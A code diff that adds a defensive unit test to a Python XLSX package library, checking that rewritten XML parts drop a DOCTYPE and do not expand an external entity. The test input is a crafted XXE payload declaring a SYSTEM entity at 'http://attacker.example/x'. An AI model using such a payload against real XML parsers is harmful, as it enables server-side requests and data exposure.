@@ -123,6 +123,24 @@ def test_a_rewritten_part_keeps_its_standalone_flag(declaration: bytes, written:
     assert rewritten == written + b'\n<a xmlns="urn:x"><b/><c/></a>'
 
 
+def test_a_rewritten_part_keeps_no_doctype_and_no_entity() -> None:
+    # A crafted part: a DOCTYPE declaring a SYSTEM entity, referenced in a cell's text.
+    hostile = (
+        b'<?xml version="1.0" encoding="UTF-8"?>'
+        b'<!DOCTYPE a [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
+        b'<a xmlns="urn:x"><b>before &xxe; after</b></a>'
+    )
+    files = Package(zipped({"xl/a.xml": hostile}), "t.xlsx")
+    files.root("xl/a.xml").append(etree.Element("{urn:x}c"))
+    files.dirty.add("xl/a.xml")
+    rewritten = entries(files.to_bytes())["xl/a.xml"]
+    # Without a declaration the default, standalone="no", is written out.
+    assert rewritten == (
+        b"<?xml version='1.0' encoding='UTF-8' standalone='no'?>\n"
+        b'<a xmlns="urn:x"><b>before  after</b><c/></a>'
+    )
+
+
 def test_an_xml_part_qualifies_tags_with_its_own_namespace() -> None:
     strict = "http://purl.oclc.org/ooxml/spreadsheetml/main"
     source = zipped({"xl/s.xml": f'<worksheet xmlns="{strict}"/>'.encode()})
